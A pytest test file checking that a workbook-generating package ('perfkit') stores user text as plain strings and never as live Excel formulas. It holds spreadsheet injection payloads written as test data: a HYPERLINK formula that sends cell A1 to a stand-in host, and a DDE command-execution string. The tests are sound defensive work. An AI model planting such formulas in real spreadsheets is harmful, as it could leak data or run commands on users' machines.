"""Text stays text in every workbook perfkit writes (issue #28, item 4: formula injection).

openpyxl makes any string beginning with ``=`` a formula; Excel evaluates it on opening. A
department's text (typed in Excel as '=…, so stored as text) carried by ``template --from`` into
next year's workbook became a live formula there.
"""

from __future__ import annotations

import openpyxl
import pytest

import perfkit as pk
from perfkit.assess.scoresheet import load_sheet
from perfkit.data.sheets import SHEET_BY_KEY
from perfkit.run.newyear import next_year_content

HOSTILE = ('=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(1)")


def _cells(path, sheet: str, text: str) -> list:
    ws = openpyxl.load_workbook(path)[sheet]
    return [c for row in ws.iter_rows() for c in row if c.value == text]


@pytest.mark.parametrize("text", HOSTILE)
def test_written_text_is_typed_as_a_string(make_workbook, text):
    def hostile(c):
        c["info"]["department_name"] = text
        c["income"]["total"]["source"] = text
        c["targets"][0]["name"] = text
        c["qualitative"][0]["evidence"] = text

    path = make_workbook(hostile)
    cells = [c for sheet in ("基本信息", "收入", "绩效指标", "定性评价")
             for c in _cells(path, sheet, text)]
    assert len(cells) == 4
    assert {c.data_type for c in cells} == {"s"}  # never "f"
    assert all(c.quotePrefix for c in cells)  # and kept text when edited in Excel
    data = pk.load_workbook(path)  # read back as the text itself
    assert data.department_name == text and data.frames["targets"].iloc[0]["name"] == text


def test_template_from_keeps_last_years_text_as_text(make_workbook, tmp_path):
    text = HOSTILE[0]

    def hostile(c):
        c["targets"][0]["name"] = text
        c["qualitative"][0]["condition"] = text
        c["functional"] = [{"code": "205", "name": "=教育支出"}]

    data = pk.load_workbook(make_workbook(hostile))
    content = next_year_content(data, 2020, load_sheet("input-process-output-outcome"))
    path = pk.write_workbook(tmp_path / "2020.xlsx", content)
    cells = _cells(path, "绩效指标", text) + _cells(path, "定性评价", text) + _cells(
        path, "支出功能分类", "=教育支出")
    assert len(cells) == 3 and {c.data_type for c in cells} == {"s"}
    book = openpyxl.load_workbook(path)
    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]


def test_report_sentences_written_into_the_stated_sheet_stay_text(make_workbook, monkeypatch):
    from perfkit.assess import textaudit

    def no_stated(content):
        content["stated"] = []

    book = make_workbook(no_stated, name="2019.xlsx")
    row = {"ref": "T1", "statement": "=CMD|' /C calc'!A0", "check": "revenue_execution_pct",
           "stated": "=1+1", "location": "第1段"}
    monkeypatch.setattr(textaudit, "stated_rows", lambda extraction: [row])
    copy, n = textaudit.write_stated_sheet(book, extraction=None)
    cells = _cells(copy, SHEET_BY_KEY["stated"].name, row["statement"]) + _cells(
        copy, SHEET_BY_KEY["stated"].name, "=1+1")
    assert n == 1 and len(cells) == 2 and {c.data_type for c in cells} == {"s"}
